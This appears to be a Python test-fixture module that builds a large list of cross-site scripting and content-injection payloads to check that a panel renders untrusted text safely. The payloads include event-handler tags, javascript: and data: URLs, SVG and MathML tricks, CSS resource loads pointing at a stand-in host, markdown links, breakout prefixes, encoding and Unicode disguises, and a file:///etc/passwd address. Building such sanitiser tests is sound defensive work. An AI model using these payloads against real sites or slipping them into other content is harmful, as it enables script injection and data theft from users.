"""Texts that would run, load or lead somewhere if the panel took them for more than text, made from classes."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "window.ranPayload=1"
EVIL = "//evil.test/p"

_TAGS = (
    *(
        "script",
        "img",
        "svg",
        "iframe",
        "object",
        "embed",
        "video",
        "audio",
        "body",
        "details",
        "math",
        "style",
    ),
    *(
        "link",
        "base",
        "meta",
        "form",
        "input",
        "button",
        "textarea",
        "template",
        "marquee",
        "frameset",
        "a",
        "x-y",
    ),
)
_ATTRIBUTES = (
    f"src=x onerror={RUN}",
    f"onload={RUN}",
    f"open ontoggle={RUN}",
    f"autofocus tabindex=0 onfocus={RUN}",
    f"src=http:{EVIL} href=http:{EVIL} data=http:{EVIL}",
    f"href=javascript:{RUN} action=javascript:{RUN}",
    f'style="background:url(http:{EVIL})"',
    f'http-equiv=refresh rel=stylesheet content="0;url=http:{EVIL}"',
)
_EVENTS = (
    *("click", "mouseover", "mouseenter", "pointerover", "pointerdown", "animationstart", "animationend"),
    *(
        "transitionend",
        "wheel",
        "scroll",
        "focus",
        "focusin",
        "blur",
        "beforetoggle",
        "toggle",
        "load",
        "error",
    ),
    *(
        "loadstart",
        "loadeddata",
        "canplay",
        "play",
        "begin",
        "end",
        "message",
        "hashchange",
        "pageshow",
        "resize",
    ),
)
_SCRIPTS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script/x>{}//",
    "<script src=http:" + EVIL + "></script>",
)
_BEFORE = (
    "",
    "</p>",
    "</title>",
    "-->",
    "]]>",
    '"><',
    "</textarea>",
    "</code></pre>",
    "<!--><",
    "\0",
    "<noscript><p title='</noscript>",
)
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"vbscript:{RUN}",
    "file:///etc/passwd",
    f"blob:http:{EVIL}",
    EVIL,
    "/\\evil.test/p",
    "/\t/evil.test/p",
    f"https:{EVIL}",
)
_LINKS = (
    "[a]({})",
    "![a]({})",
    "<{}>",
    "[a]: {}\n\n[a]",
    "[![a]({0})]({0})",
    '<a href="{}">a</a>',
    '[a](<{}> "t")',
)
_IMAGES = (
    "<img src=http:{0}>",
    "<img srcset='http:{0} 1x'>",
    "<picture><source srcset=http:{0}><img></picture>",
    "<video poster=http:{0}>",
    "<audio src=http:{0} autoplay>",
    "<input type=image src=http:{0}>",
    "<svg><image href=http:{0} /></svg>",
    "<svg><image xlink:href=http:{0} /></svg>",
    "<svg><use href=http:{0}#a /></svg>",
    "<svg><feImage href=http:{0} /></svg>",
    "<table background=http:{0}>",
    "<body background=http:{0}>",
    "<link rel=prefetch href=http:{0}>",
    "<link rel=stylesheet href=http:{0}>",
    "<object data=http:{0}>",
    "<embed src=http:{0}>",
    "<iframe srcdoc='<img src=http:{0}>'>",
    "<base href=http:{0}>",
    "<track src=http:{0}>",
)
_STYLES = (
    "background:url(http:{0})",
    "background-image:image-set('http:{0}' 1x)",
    "list-style-image:url(http:{0})",
    "cursor:url(http:{0}),auto",
    "content:url(http:{0})",
    "border-image:url(http:{0})",
    "mask:url(http:{0}#a)",
    "filter:url(http:{0}#a)",
    "width:expression({1})",
    "behavior:url(http:{0})",
    "-moz-binding:url(http:{0}#a)",
)
_DRAWINGS = (
    "<svg onload={1}>",
    "<svg><animate onbegin={1} attributeName=x dur=1s>",
    "<svg><set onbegin={1} attributeName=x>",
    "<svg><script>{1}</script></svg>",
    "<svg><a xlink:href=javascript:{1}><text y=9>a</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={1}></foreignObject></svg>",
    "<svg><style>@import 'http:{0}'</style></svg>",
    "<math><mtext><mglyph><style><img src=x onerror={1}>",
    "<math href=javascript:{1}>a</math>",
    "<svg></p><style><a id='</style><img src=x onerror={1}>'>",
)
_PLACES = (
    "```html\n{}\n```",
    "```mermaid\n{}\n```",
    "`{}`",
    "# {}",
    "> {}",
    "- {}",
    "| a |\n| - |\n| {} |",
    "**{}**",
    "$${}$$",
    "[^1]\n\n[^1]: {}",
    "<!-- {} -->",
    "    {}",
)
_INNER = (
    f"<img src=x onerror={RUN}>",
    f"<script>{RUN}</script>",
    f"![a](http:{EVIL})",
    f"[a](javascript:{RUN})",
    f"<svg onload={RUN}>",
    f'click A href "javascript:{RUN}"',
    f"\\href{{javascript:{RUN}}}{{a}}",
)
_DISGUISES = (
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;").replace(">", "&#x3e;"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("s", "ſ"),
    lambda text: "\u202e" + text + "\u202c",
    lambda text: text.replace("script", "scr\u200bipt"),
    lambda text: "\ufeff" + text,
    lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace(" ", "/"),
)


def payloads() -> list[str]:
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from (f"<{tag} {attributes}>" for tag, attributes in product(_TAGS, _ATTRIBUTES))
    yield from (f"<img src=x on{event}={RUN}>" for event in _EVENTS)
    yield from (f"<div style='animation:a 1s' contenteditable on{event}='{RUN}'>a</div>" for event in _EVENTS)
    yield from (before + script.format(RUN) for before, script in product(_BEFORE, _SCRIPTS))
    yield from (link.format(address) for address, link in product(_ADDRESSES, _LINKS))
    yield from (image.format(EVIL) for image in _IMAGES)
    for style in _STYLES:
        value = style.format(EVIL, RUN)
        yield from (f'<p style="{value}">a</p>', f"<style>*{{{value}}}</style>")
    yield from (drawing.format(EVIL, RUN) for drawing in _DRAWINGS)
    yield from (place.format(inner) for place, inner in product(_PLACES, _INNER))
    yield from (disguise(inner) for disguise, inner in product(_DISGUISES, _INNER))
